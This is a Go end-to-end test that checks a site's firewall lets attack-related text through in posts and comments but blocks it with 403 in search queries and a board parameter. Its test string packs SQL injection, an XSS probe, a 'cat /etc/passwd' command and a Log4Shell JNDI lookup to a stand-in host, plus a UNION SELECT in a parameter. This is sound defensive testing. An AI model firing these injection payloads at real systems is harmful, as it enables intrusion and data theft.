package e2e_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestWriteAboutAttacks: the site of these tests runs behind the WAF. Whoever writes about code is
// let through, whoever puts code where names and searches belong is not.
func TestWriteAboutAttacks(t *testing.T) {
	const text = "' OR 1=1 -- <script>alert(1)</script>; cat /etc/passwd ${jndi:ldap://x.example/a} อยากไปมากค่ะ"
	v := demo(t, "yuzu_note")
	board := anyBoard(t, v)
	p := v.post(board, text, strings.Repeat(text+"\n\n", 20))
	if got := p.Find("h1").Text(); !strings.Contains(got, text) {
		t.Errorf("the title reads %q", got)
	}
	post := signInAPI(t, "row_four").newPost(board.id, text, text)
	signInAPI(t, "row_four").post("/posts/"+post+"/comments", map[string]any{"body": text}, http.StatusCreated)

	for _, address := range []string{"/en/search?q=" + url.QueryEscape(text), "/api/v1/search?q=" + url.QueryEscape(text), "/me/en/write?board=" + url.QueryEscape("1' UNION SELECT 1--")} {
		res, err := apiClient.Get(site + address)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusForbidden || res.Header.Get("Cache-Control") == "" || strings.Contains(res.Header.Get("Cache-Control"), "public") {
			t.Errorf("%s: %d, %s", address, res.StatusCode, res.Header.Get("Cache-Control"))
		}
	}
}
